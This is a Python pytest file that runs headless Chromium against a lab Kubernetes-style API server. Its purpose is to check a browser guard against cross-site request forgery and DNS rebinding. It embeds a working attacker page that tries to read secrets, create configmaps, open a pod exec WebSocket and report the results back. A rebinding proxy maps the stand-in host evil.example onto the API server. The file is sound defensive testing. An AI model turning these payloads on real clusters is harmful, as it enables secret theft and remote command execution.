"""A real browser shows the page of an attacker beside a server that asks for no credential.

Each page is tried on a server without its guard first: what a browser no longer sends proves nothing.
"""

import contextlib
import http.server
import json
import os
import shutil
import signal
import socket
import subprocess
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from builders import pod
from dralab.apiserver.http.browser_guard import Guard
from dralab.cluster import Cluster
from dralab.components.control_plane import ControlPlane
from dralab.components.nodes import NodeOptions, Nodes
from dralab.runtime.resources import PODS, Resource

NAMES = ("chromium", "chromium-browser", "chromium-headless-shell", "google-chrome")
BROWSER = os.environ.get("DRALAB_BROWSER") or next(filter(None, map(shutil.which, NAMES)), None)
pytestmark = [
    pytest.mark.conformance,
    pytest.mark.skipif(
        BROWSER is None, reason="no Chromium; DRALAB_BROWSER names one (Debian: chromium)"
    ),
]
CONFIG_MAPS = Resource("", "v1", "configmaps")
PATIENCE = 60.0
ATTACK = """<!doctype html><iframe name=f></iframe><script>
const API = "@API@", MAPS = API + "/api/v1/namespaces/default/configmaps";
const map = name => JSON.stringify({metadata: {name}}), found = {};
const within = (promise, of) => Promise.race([promise, new Promise(r => setTimeout(r, 3000, of))]);
const ask = (name, url, how) => within(
  fetch(url, how).then(a => a.text().then(t => [a.status, t])), "no answer"
).catch(e => String(e)).then(a => { found[name] = a; });
const form = () => new Promise(done => {
  const made = document.createElement("form"), input = document.createElement("input");
  made.action = MAPS; made.method = "post"; made.enctype = "text/plain"; made.target = "f";
  input.name = '{"metadata": {"name": "form"}, "x": "'; input.value = '"}';
  made.append(input); document.body.append(made);
  document.querySelector("iframe").onload = done; setTimeout(done, 3000); made.submit();
});
const image = () => new Promise(done => {
  const made = new Image(); made.onload = made.onerror = done; made.src = API + "/api/v1/secrets";
});
const socket = () => within(new Promise(done => {
  const made = new WebSocket(
    API.replace("http", "ws") + "/api/v1/namespaces/default/pods/p/exec?command=id&stdout=1",
    ["v4.channel.k8s.io"]);
  made.onopen = () => done("open"); made.onerror = () => done("refused");
}), "no answer").then(a => { found.exec = a; });
(async () => {
  await ask("secrets", API + "/api/v1/secrets");
  await ask("opaque", API + "/api/v1/secrets", {mode: "no-cors"});
  await ask("blob", MAPS, {method: "POST", mode: "no-cors", body: new Blob([map("blob")])});
  await ask("text", MAPS, {method: "POST", mode: "no-cors", body: map("text")});
  await ask("json", MAPS, {method: "POST", body: map("json"),
                           headers: {"Content-Type": "application/json"}});
  await ask("agent", MAPS, {method: "POST", body: map("agent"), headers: {"User-Agent": "kubectl"}});
  await ask("delete", MAPS + "/mine", {method: "DELETE"});
  navigator.sendBeacon(MAPS, new Blob([map("beacon")]));
  await image(); await form(); await socket();
  await fetch("@REPORT@", {method: "POST", mode: "no-cors", body: JSON.stringify(found)});
})();
</script>"""


@dataclass
class Attacker:
    """Serves the page and waits for what it reports."""

    page: str = ""
    report: dict[str, object] = field(default_factory=dict)
    done: threading.Event = field(default_factory=threading.Event)

    def handler(self) -> type[http.server.BaseHTTPRequestHandler]:
        attacker = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                self.answer(attacker.page.encode())

            def do_POST(self) -> None:
                body = self.rfile.read(int(self.headers["content-length"]))
                attacker.report = json.loads(body)
                self.answer(b"")
                attacker.done.set()

            def answer(self, body: bytes) -> None:
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.send_header("Connection", "close")
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *_: object) -> None:
                """Say nothing."""

        return Handler


class Rebound:
    """The address to which the attacker's name leads: first to the page, then to the API server.

    For the browser it is one host: this is what a name does whose address changes.
    """

    def __init__(self, attacker: tuple[str, int], api: tuple[str, int]) -> None:
        self.attacker, self.api = attacker, api
        # The same port as the API server: the port is part of an origin.
        self.listener = socket.create_server(("127.0.0.2", api[1]))
        threading.Thread(target=self.serve, daemon=True).start()

    def serve(self) -> None:
        while True:
            try:
                client, _ = self.listener.accept()
            except OSError:
                return
            threading.Thread(target=self.pass_on, args=(client,), daemon=True).start()

    def pass_on(self, client: socket.socket) -> None:
        head = client.recv(65536)
        own = head.startswith((b"GET / ", b"GET /favicon"))
        server = socket.create_connection(self.attacker if own else self.api)
        server.sendall(head)
        back = threading.Thread(target=copy, args=(server, client), daemon=True)
        back.start()
        copy(client, server)
        back.join()
        client.close()
        server.close()


def copy(source: socket.socket, target: socket.socket) -> None:
    """Pass on what comes until one of the two ends."""
    try:
        while data := source.recv(65536):
            target.sendall(data)
        target.shutdown(socket.SHUT_WR)
    except OSError:
        pass


@pytest.fixture(params=["another port", "another site", "a rebound name"])
def place(request: pytest.FixtureRequest) -> str:
    return str(request.param)


@pytest.fixture
def cluster() -> Iterator[Cluster]:
    components = [ControlPlane(), Nodes(NodeOptions(nodes=1))]
    with Cluster(components=components) as found:
        found.client.create(CONFIG_MAPS, {"metadata": {"name": "mine"}}, "default")
        found.client.create(PODS, pod("p"), "default")
        pause = threading.Event()
        for _ in range(600):
            if (found.client.get(PODS, "p", "default").get("status") or {}).get(
                "phase"
            ) == "Running":
                break
            pause.wait(0.05)
        yield found


@contextlib.contextmanager
def browser(url: str, rules: str, tmp_path: Path) -> Iterator[Path]:
    """Show a page, names being resolved by rules; yields the log."""
    log = tmp_path / "browser.log"
    with log.open("w") as file:
        process = subprocess.Popen(
            [
                str(BROWSER), "--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run",
                "--disable-background-networking", "--disable-dev-shm-usage",
                f"--user-data-dir={tmp_path / 'profile'}", f"--host-resolver-rules={rules}", url,
            ],
            stdout=file,
            stderr=file,
            start_new_session=True,
        )  # fmt: skip
    try:
        yield log
    finally:
        os.killpg(process.pid, signal.SIGKILL)
        process.wait()


def shown(cluster: Cluster, place: str, tmp_path: Path) -> dict[str, object]:
    """Return what a page found out that a browser showed."""
    attacker = Attacker()
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), attacker.handler())
    threading.Thread(target=server.serve_forever, daemon=True).start()
    host, _, port = cluster.url.removeprefix("http://").partition(":")
    own = server.server_address[1]
    rules, rebound = "MAP evil.example 127.0.0.1", None
    url, api = f"http://127.0.0.1:{own}/", cluster.url
    if place == "another site":
        url = f"http://evil.example:{own}/"
    elif place == "a rebound name":
        rebound = Rebound(("127.0.0.1", own), (host, int(port)))
        rules, api = "MAP evil.example 127.0.0.2", ""
        url = f"http://evil.example:{port}/"
    attacker.page = ATTACK.replace("@API@", api or url.removesuffix("/")).replace(
        "@REPORT@", f"http://127.0.0.1:{own}/report"
    )
    try:
        with browser(url, rules, tmp_path) as log:
            assert attacker.done.wait(PATIENCE), log.read_text()[-2000:]
    finally:
        server.shutdown()
        server.server_close()
        if rebound is not None:
            rebound.listener.close()
    return attacker.report


def names(cluster: Cluster) -> set[str]:
    found = {item["metadata"]["name"] for item in cluster.client.list(CONFIG_MAPS, "default").items}
    return found - {"kube-root-ca.crt"}


def test_without_its_guard_the_server_would_be_the_pages(
    cluster: Cluster, place: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(Guard, "check", lambda *_: None)
    report = shown(cluster, place, tmp_path)
    assert report["exec"] == "open"
    assert {"blob", "beacon"} <= names(cluster)
    if place == "a rebound name":
        assert "SecretList" in str(report["secrets"])
        assert "mine" not in names(cluster)


def test_a_page_neither_reads_nor_writes_nor_runs_anything(
    cluster: Cluster, place: str, tmp_path: Path
) -> None:
    asked: list[str] = []
    cluster.server.observers.append(
        lambda request, _: (
            asked.append(request.path)
            if "Mozilla" in request.headers.get("user-agent", "")
            else None
        )
    )
    report = shown(cluster, place, tmp_path)
    assert report["exec"] == "refused"
    assert "SecretList" not in str(report)
    assert names(cluster) == {"mine"}
    assert asked == []
